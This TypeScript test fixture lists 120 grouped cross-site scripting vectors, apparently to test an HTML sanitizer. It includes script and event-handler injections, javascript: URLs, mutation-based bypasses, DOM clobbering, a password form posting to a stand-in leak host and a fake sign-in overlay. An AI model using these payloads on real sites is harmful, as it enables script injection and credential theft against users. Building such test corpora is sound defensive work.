/** What a vector runs if it can: it leaves its number on the page. */
const RUN = '(window.__xss=window.__xss||[]).push(0)'
/** Where a vector would send something. The name cannot exist (RFC 2606). */
export const LEAK_HOST = 'leak.invalid'
const OUT = `https://${LEAK_HOST}/x`
const B64 = Buffer.from(`<script>parent.${RUN}</script>`).toString('base64')

export interface XssVector {
  readonly name: string
  readonly html: string
}

type Group = readonly [name: string, vectors: readonly string[]]

const SCRIPTS: Group = [
  'script',
  [
    `<script>${RUN}</script>`,
    `<SCRIPT>${RUN}</SCRIPT>`,
    `<script/x>${RUN}</script/x>`,
    `<script src="${OUT}.js"></script>`,
    `<script src="data:text/javascript,${RUN}"></script>`,
    `<script type="module">${RUN}</script>`,
    `<script type="importmap">{"imports":{"react":"${OUT}.js"}}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<<script>${RUN}//<</script>`,
    `<script\n>${RUN}</script\n>`,
    `<script>/*</script><script>*/${RUN}</script>`,
    `<noscript><p title="</noscript><script>${RUN}</script>"></noscript>`,
    `<template><script>${RUN}</script></template>`,
    `<div><template shadowrootmode="open"><script>${RUN}</script><img src=x onerror="${RUN}"></template></div>`,
  ],
]

const HANDLERS: Group = [
  'handler',
  [
    `<img src=x onerror="${RUN}">`,
    `<img src=x onerror=${RUN}>`,
    `<img/src=x/onerror="${RUN}">`,
    `<IMG SRC=x OnErRoR="${RUN}">`,
    `<img src=x\nonerror\n=\n"${RUN}">`,
    `<img src=x \u000conerror="${RUN}">`,
    `<img src="x\` \`<script>${RUN}</script>"onerror="${RUN}">`,
    `<image src=x onerror="${RUN}">`,
    `<body onload="${RUN}">`,
    `<body onpageshow="${RUN}">`,
    `<input autofocus onfocus="${RUN}">`,
    `<select autofocus onfocus="${RUN}"></select>`,
    `<textarea autofocus onfocus="${RUN}"></textarea>`,
    `<a href="#x" tabindex=1 autofocus onfocus="${RUN}">x</a>`,
    `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
    `<video src=x onerror="${RUN}"></video>`,
    `<video><source src=x onerror="${RUN}"></video>`,
    `<audio src=x onerror="${RUN}"></audio>`,
    `<marquee onstart="${RUN}">x</marquee>`,
    `<p onmouseover="${RUN}" onpointerenter="${RUN}">x</p>`,
    `<p style="animation:x 1s" onanimationstart="${RUN}">x</p>`,
    `<p onclick="${RUN}" oncopy="${RUN}">x</p>`,
    `<object data=x onerror="${RUN}"></object>`,
    `<iframe onload="${RUN}"></iframe>`,
    `<x-tag onclick="${RUN}" onbeforematch="${RUN}" hidden="until-found">x</x-tag>`,
    `<div popover onbeforetoggle="${RUN}" id=p>x</div><button popovertarget=p>x</button>`,
    `<link rel=stylesheet href=x onerror="${RUN}">`,
    `<style onload="${RUN}"></style>`,
  ],
]

const URLS: Group = [
  'url',
  [
    `<a href="javascript:${RUN}">x</a>`,
    `<a href="JaVaScRiPt:${RUN}">x</a>`,
    `<a href=" \u0001javascript:${RUN}">x</a>`,
    `<a href="java\tscript:${RUN}">x</a>`,
    `<a href="java\nscript:${RUN}">x</a>`,
    `<a href="java&#x0D;script:${RUN}">x</a>`,
    `<a href="java&Tab;script&colon;${RUN}">x</a>`,
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">x</a>`,
    `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${RUN}">x</a>`,
    `<a href="\u00a0javascript:${RUN}">x</a>`,
    `<a href="javascript://example.org/%0A${RUN}">x</a>`,
    `<a href="vbscript:msgbox(1)">x</a>`,
    `<a href="data:text/html;base64,${B64}">x</a>`,
    `<a href="blob:https://${LEAK_HOST}/x">x</a>`,
    `<a href="//${LEAK_HOST}/x">x</a>`,
    `<a href="/\\${LEAK_HOST}/x">x</a>`,
    `<a href="/app/../api/v1/x">x</a>`,
    `<a href="\\\\${LEAK_HOST}\\x">x</a>`,
    `<a href="https://example.org" ping="${OUT}">x</a>`,
    `<a href="https://example.org" target="_top" rel="opener">x</a>`,
    `<a xlink:href="javascript:${RUN}">x</a>`,
    `<area href="javascript:${RUN}" coords="0,0,9,9"><map name=m><area href="javascript:${RUN}"></map>`,
  ],
]

const FOREIGN: Group = [
  'svg and mathml',
  [
    `<svg onload="${RUN}"></svg>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
    `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to="${RUN}"></svg>`,
    `<svg><use href="data:image/svg+xml;base64,${B64}#x"></use></svg>`,
    `<svg><image href="${OUT}.png"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
    `<svg><style>*{background:url(${OUT})}</style></svg>`,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">x</maction></math>`,
    `<math href="javascript:${RUN}">x</math>`,
    `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  ],
]

const FRAMES: Group = [
  'frame',
  [
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
    `<iframe src="javascript:parent.${RUN}"></iframe>`,
    `<iframe src="${OUT}"></iframe>`,
    `<object data="data:text/html;base64,${B64}"></object>`,
    `<embed src="data:text/html;base64,${B64}">`,
    `<embed src="${OUT}.swf">`,
    `<frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
    `<portal src="${OUT}"></portal><fencedframe src="${OUT}"></fencedframe>`,
  ],
]

const LOADS: Group = [
  'load',
  [
    `<img src="${OUT}.png">`,
    `<img srcset="${OUT}.png 2x" src="">`,
    `<picture><source srcset="${OUT}.png"><img src=""></picture>`,
    `<img src="data:image/svg+xml;base64,${B64}">`,
    `<video poster="${OUT}.png"></video>`,
    `<audio src="${OUT}.mp3" autoplay></audio>`,
    `<track src="${OUT}.vtt"><input type=image src="${OUT}.png">`,
    `<table background="${OUT}.png"><tr><td background="${OUT}.png">x</td></tr></table>`,
    `<link rel=stylesheet href="${OUT}.css">`,
    `<link rel=prefetch href="${OUT}"><link rel=dns-prefetch href="//${LEAK_HOST}"><link rel=preconnect href="${OUT}">`,
    `<p style="background:url(${OUT}.png)">x</p>`,
    `<style>@import "${OUT}.css";</style>`,
    `<style>body{background:url(${OUT}.png)} input[value^=a]{background:url(${OUT}?a)}</style>`,
    `<div style="position:fixed;inset:0;z-index:99999"><a href="${OUT}">Session over, sign in again</a></div>`,
  ],
]

const DOCUMENT: Group = [
  'document',
  [
    `<meta http-equiv=refresh content="0;url=${OUT}">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
    `<base href="${OUT}/">`,
    `<form action="${OUT}" id=f><input name=password><button>Sign in</button></form><button form=f formaction="javascript:${RUN}">x</button>`,
    `<form><input type=submit formaction="javascript:${RUN}" value=x></form>`,
    `<isindex action="javascript:${RUN}" type=image>`,
    `<img name=body id=cookie><form name=head><input name=parentNode></form>`,
    `<form id=x><input name=attributes><input name=nodeName></form><a id=config href="${OUT}"></a><a id=config name=authHost href="${OUT}"></a>`,
    `<div id=root>x</div><a id=__xss></a><meta property=csp-nonce content=x>`,
  ],
]

const MUTATIONS: Group = [
  'mutation',
  [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
    `<noscript><style></noscript><img src=x onerror="${RUN}"></style>`,
    `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
    `<title><a title="</title><img src=x onerror=${RUN}>"></title>`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
    `<!--><img src=x onerror="${RUN}">-->`,
    `<table><td><select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>"></a></table>`,
    `<svg><desc><style><![CDATA[</style><img src=x onerror=${RUN}>]]></style></desc></svg>`,
  ],
]

/** 120 ways in which foreign HTML has run or loaded something somewhere. */
export const XSS_VECTORS: readonly XssVector[] = [
  SCRIPTS,
  HANDLERS,
  URLS,
  FOREIGN,
  FRAMES,
  LOADS,
  DOCUMENT,
  MUTATIONS,
].flatMap(([group, vectors]) => vectors.map((html, index) => ({ name: `${group} ${index + 1}`, html })))
